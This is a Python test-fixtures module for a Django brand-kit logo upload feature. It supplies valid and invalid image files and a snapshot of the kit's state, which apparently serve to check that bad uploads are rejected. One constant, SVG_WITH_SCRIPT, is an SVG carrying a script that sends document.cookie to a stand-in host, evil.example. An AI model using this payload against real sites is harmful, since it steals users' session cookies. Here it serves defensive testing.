"""Inputs for brand-kit tests: good and bad logo files, the owner, a snapshot of the kit."""

from __future__ import annotations

import io

from django.forms.models import model_to_dict
from PIL import Image

from branding.models import BrandKit
from studio_portal.accounts.models import User
from studio_portal.audit.models import AuditLogEntry
from studio_portal.tenants.models import Domain


def owner() -> User:
    return User.objects.get(username="owner")


def sonographer() -> User:
    return User.objects.get(username="sono")


def logo_png(
    rgb: tuple[int, int, int] = (20, 90, 200), size: tuple[int, int] = (300, 120)
) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, rgb).save(out, "PNG")
    return out.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (64, 64), rgb) for rgb in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    b'<rect width="10" height="10" fill="red"/></svg>'
)


def forty_megabyte_logo() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(40 * 1024 * 1024)


def kit_snapshot() -> dict:
    """Everything a failed update must leave alone: the row, its logo, domains, the audit log."""
    kit = BrandKit.objects.get_or_create(pk=1)[0]
    row = model_to_dict(kit)
    row["logo"] = kit.logo.name
    return {
        "kit": row,
        "updated_at": kit.updated_at,
        "domains": sorted(
            Domain.objects.values_list("domain", "tenant__schema_name", "is_primary")
        ),
        "audit": AuditLogEntry.objects.count(),
    }
